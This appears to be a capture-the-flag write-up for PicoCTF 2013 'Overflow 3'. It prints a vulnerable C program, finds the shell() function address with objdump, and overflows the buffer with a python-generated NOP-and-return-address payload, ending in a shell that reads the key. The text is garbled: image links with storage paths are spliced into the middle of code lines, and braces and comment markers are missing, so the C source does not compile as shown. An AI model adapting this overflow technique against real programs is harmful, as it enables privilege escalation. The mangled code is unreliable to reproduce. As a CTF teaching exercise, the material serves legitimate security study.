# PicoCTF 2k13 - Overflow 3

$ cat buffer_overflow.c
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/types.h>
#include "dump_stack.h"

 * Goal: Get the program to run this function.
void shell(void) {
    execl("/bin/sh", "sh", NULL);

void vuln(char*str) {
    char buf[64];
    strcpy(buf, str);
    dump_stack((void **) buf, 21, (void **) &str);

int main(int argc, char **argv) {
    if (argc != 2) {
        printf("Usage: buffer_overflow [str]\n");
        return 1;

    uid_t euid = geteuid();
    setresuid(euid, euid, euid);
    printf("shell function = %p\n", shell);
    return 0;$ objdump -t buffer_overflow | grep shell
080485f8 g     F .text 00000024              shell
$ ./buffer_overflow `python -c 'print "\x90"*76 + "\xf8\x85\x04\x08"'`
shell function = 0x80485f8
Stack dump:
0xffffd610: 0xffffd800 (first argument)
0xffffd60c: 0x080485f8 (saved eip)
0xffffd608: 0x90909090 (saved ebp)
0xffffd604: 0x90909090
0xffffd600:0x90909090
0xffffd5fc: 0x90909090
0xffffd5f8: 0x90909090
0xffffd5f4: 0x90909090
0xffffd5f0: 0x90909090
0xffffd5ec: 0x90909090
0xffffd5e8: 0x90909090
0xffffd5e4: 0x90909090
0xffffd5e0: 0x90909090
0xffffd5dc: 0x90909090
0xffffd5d8: 0x90909090
0xffffd5d4: 0x90909090
0xffffd5d0: 0x90909090
0xffffd5cc: 0x90909090
0xffffd5c8: 0x90909090
0xffffd5c4: 0x90909090
0xffffd5c0: 0x90909090 (beginning of buffer)sh-4.2$ cat key

No comments: